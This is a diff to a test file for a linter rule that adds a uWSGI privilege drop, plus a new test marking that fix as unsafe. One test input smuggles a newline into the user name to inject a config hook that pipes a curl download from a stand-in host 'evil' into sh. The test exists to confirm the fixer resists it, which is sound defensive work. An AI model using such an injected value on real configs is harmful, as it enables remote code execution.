@@ -1,5 +1,5 @@
 import { strict as assert } from 'node:assert';
-import { findings, fixed, messages, quickFixes } from '../../support/spec';
+import { findings, fixed, messages, quickFixes, fixSafety } from '../../support/spec';
 
 const RULE = 'no-privilege-drop';
 
@@ -74,5 +74,9 @@ describe('rule no-privilege-drop', () => {
     const hostile = { privilegeDrop: { user: 'www-data\nhook-asap = exec:curl -s http://evil/x|sh', group: 'apps' } };
     assert.equal(fixed('[uwsgi]\nsocket = :3031\n', RULE, undefined, hostile), '[uwsgi]\nsocket = :3031\nuid = www-data\ngid = apps\n');
     assert.equal(quickFixes('[uwsgi]\nsocket = :3031\n', RULE, hostile)[0]!.title, 'Add a privilege drop (uid = www-data, gid = apps)');
+  });
+
+  it('declares adding a privilege drop unsafe', () => {
+    assert.deepEqual(fixSafety('[uwsgi]\nsocket = :3031\n', RULE), ['*Add a privilege drop (uid = www-data, gid = www-data): unsafe']);
   });
 });
